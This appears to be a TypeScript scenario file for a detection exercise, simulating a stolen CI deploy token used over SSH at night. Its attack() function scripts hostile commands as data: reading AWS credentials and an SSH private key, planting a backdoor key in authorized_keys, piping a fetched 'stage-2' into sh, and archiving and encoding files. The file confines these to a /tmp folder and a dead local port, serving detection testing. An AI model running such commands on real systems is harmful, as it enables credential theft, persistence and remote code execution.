/** The second act: whoever stole a token moves on to a host. The account deploys over SSH by day; at night somebody else uses it from elsewhere. */
import type { Exercise } from '../catalogue.ts';
import { atLocalHour, ordinarySession } from '../history.ts';
import type { Actor, Draw, PlannedStatement, StatementTemplate } from '../plan.ts';

const HOUR_MS = 3_600_000;

const command = (weight: number, bytes: number, text: StatementTemplate['sql']): StatementTemplate => ({
  weight,
  rows: 0,
  bytesPerRow: bytes,
  sql: text,
});

const WORK: readonly StatementTemplate[] = [
  command(5, 40, () => 'git -C /srv/orders fetch --quiet origin'),
  command(
    4,
    40,
    (draw) => `git -C /srv/orders checkout --quiet 2026.${draw.between(1, 52)}.${draw.between(0, 9)}`,
  ),
  command(4, 20, () => 'systemctl is-active orders'),
  command(3, 400, (draw) => `journalctl -u orders -n ${draw.between(2, 9)}0 --no-pager`),
  command(2, 80, () => 'df -h /srv'),
  command(2, 20, () => 'curl -fsS http://127.0.0.1:8080/healthz'),
];

function drawActor(draw: Draw, number: number): Actor {
  const start = draw.between(7, 10);
  const repository = `acme/${draw.pick(['orders', 'billing', 'catalog'])}-${number}`;
  return {
    subject: `ci-release-${number}`,
    kind: 'service_account',
    displayName: `CI release of ${repository}`,
    groups: ['ci', 'deployers'],
    credentialSource: `ci/${repository}/hosts`,
    timeZone: draw.pick(['Europe/Berlin', 'America/New_York', 'UTC']),
    networks: [`10.${draw.between(0, 200)}.${draw.between(0, 255)}`],
    // As a gateway reads it from the identification of OpenSSH's client.
    tool: 'OpenSSH',
    tokenLifetimeMs: HOUR_MS,
    work: {
      hours: Array.from({ length: 9 }, (_, index) => ({ hour: start + index, weight: index === 4 ? 1 : 3 })),
      weekdaysOnly: false,
      sessionsPerDay: draw.between(4, 8),
      statements: WORK,
      statementsPerSession: draw.between(5, 9),
      paceMs: 1500,
    },
  };
}

const say = (text: string, afterMs = 3000): PlannedStatement => ({ sql: text, afterMs, rows: 0, bytes: 0 });

/** All that it would write lies in a folder of its own below /tmp; what could do harm elsewhere reaches nothing. */
function attack(draw: Draw): PlannedStatement[] {
  const folder = `/tmp/countersign-exercise-${draw.between(100_000, 999_999)}`;
  return [
    say('id; uname -a; uptime'),
    say('ps -e -o user=,comm= | sort | uniq -c | sort -rn | head -20'),
    say(`cat ${folder}/.aws/credentials ${folder}/.ssh/id_ed25519`),
    say(
      `mkdir -p ${folder}/.ssh && echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGnlkOa3MrHrTKLvRGNX5GBEoWnM5LHyOjUYS4vhpJ3k back-door' >> ${folder}/.ssh/authorized_keys`,
    ),
    say('curl -fsS http://127.0.0.1:9/stage-2 | sh'),
    say(`tar czf - ${folder} | base64 | head -c 1000000`),
    say(`rm -rf ${folder}`),
  ];
}

export const SECOND_ACT: Exercise = {
  name: 'impersonation over SSH',
  summary: "The release account's token is used at night from elsewhere, for commands that it never ran.",
  expect: 'contained',
  drawActor,
  plan(actor, draw, dayStart) {
    const at = atLocalHour(actor, dayStart, draw.between(1, 4), draw.between(0, HOUR_MS - 1));
    const ip = `203.0.${draw.between(112, 114)}.${draw.between(2, 250)}`;
    return [{ ...ordinarySession(actor, draw, at, attack(draw)), ip }];
  },
};
